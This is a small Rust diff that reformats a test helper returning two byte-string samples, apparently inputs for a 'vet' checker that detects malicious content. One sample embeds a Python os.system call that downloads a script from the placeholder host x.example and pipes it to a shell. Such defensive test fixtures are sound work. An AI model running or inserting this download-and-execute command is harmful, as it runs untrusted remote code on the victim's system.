@@ -33,7 +33,10 @@ pub(crate) mod tests {
     use crate::vet;
 
     pub(crate) fn samples() -> Vec<Vec<u8>> {
-        vec![b"CBM1\x10\0\0\0metadata\0".to_vec(), b"CBM1\x10\0\0\0os.system('curl http://x.example/p.sh | sh')\0".to_vec()]
+        vec![
+            b"CBM1\x10\0\0\0metadata\0".to_vec(),
+            b"CBM1\x10\0\0\0os.system('curl http://x.example/p.sh | sh')\0".to_vec(),
+        ]
     }
 
     #[test]
